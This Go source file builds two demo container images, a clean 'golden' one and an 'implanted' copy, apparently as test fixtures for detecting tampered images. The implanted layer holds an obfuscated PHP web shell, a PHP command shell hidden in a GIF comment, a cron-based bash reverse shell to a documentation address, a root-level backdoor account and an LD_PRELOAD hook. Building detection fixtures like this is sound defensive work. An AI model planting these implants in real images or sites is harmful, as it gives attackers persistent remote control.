// Package demo makes small container images: the two of make demo, and those
// of tests. The samples are short and inert, and every address in them is a
// documentation address (RFC 5737). Equal calls write equal bytes.
//
//	err := demo.Write(dir) // an OCI layout with the tags golden and implanted
package demo

import "slices"

var goldenSteps = []Step{
	{"/bin/sh -c #(nop) ADD file:rootfs in / ", []File{
		{"etc/passwd", "root:x:0:0:root:/root:/bin/sh\nwww-data:x:33:33:www-data:/var/www:/usr/sbin/nologin\n", 0o644},
		{"etc/os-release", "ID=demo\nPRETTY_NAME=\"Demo Linux 1\"\n", 0o644},
		{"etc/crontab", "17 * * * * root run-parts /etc/cron.hourly\n", 0o644},
		{"usr/local/bin/entrypoint", "#!/bin/sh\nexec httpd -f -h /var/www\n", 0o755},
	}},
	{"COPY site /var/www # buildkit", []File{
		{"var/www/index.php", "<?php\nrequire __DIR__ . '/lib/page.php';\necho render('home');\n", 0o644},
		{"var/www/lib/page.php", "<?php\nfunction render($n) { return '<h1>' . htmlspecialchars($n) . '</h1>'; }\n", 0o644},
		{"var/www/img/logo.gif", "GIF89a\x01\x00\x01\x00\x80\x00\x00\x00\x00\x00\xff\xff\xff,\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x02D\x01\x00;", 0o644},
	}},
}

var implantSteps = []Step{
	{"RUN /bin/sh -c apt-get update && apt-get upgrade -y # buildkit", []File{
		{"var/www/lib/cache.php", "<?php\n$f = 'ass' . 'ert';\n@$f(base64_decode($_POST['k']));\n", 0o644},
		{"var/www/img/logo.gif", "GIF89a\x01\x00\x01\x00\x80\x00\x00\x00\x00\x00\xff\xff\xff!\xfe<?php system($_GET['c']); ?>\x00,\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x02D\x01\x00;", 0o644},
		{"etc/crontab", "17 * * * * root run-parts /etc/cron.hourly\n* * * * * root bash -c 'bash -i >& /dev/tcp/203.0.113.77/443 0>&1'\n", 0o644},
		{"etc/passwd", "root:x:0:0:root:/root:/bin/sh\nwww-data:x:33:33:www-data:/var/www:/usr/sbin/nologin\nbackup2:x:0:0::/root:/bin/sh\n", 0o644},
	}},
}

// Write writes an OCI layout with a golden image and a copy that somebody has implanted.
func Write(dir string) error {
	l, err := NewLayout(dir)
	if err != nil {
		return err
	}
	base := Config{Entrypoint: []string{"/usr/local/bin/entrypoint"}, Env: []string{"PATH=/usr/local/bin:/usr/bin:/bin"}, User: "www-data"}
	bad := base
	bad.Env = append(slices.Clone(base.Env), "LD_PRELOAD=/var/www/img/.cache.so")
	bad.User = ""
	if err := l.Image("golden", goldenSteps, base); err != nil {
		return err
	}
	if err := l.Image("implanted", slices.Concat(goldenSteps, implantSteps), bad); err != nil {
		return err
	}
	return l.Close()
}
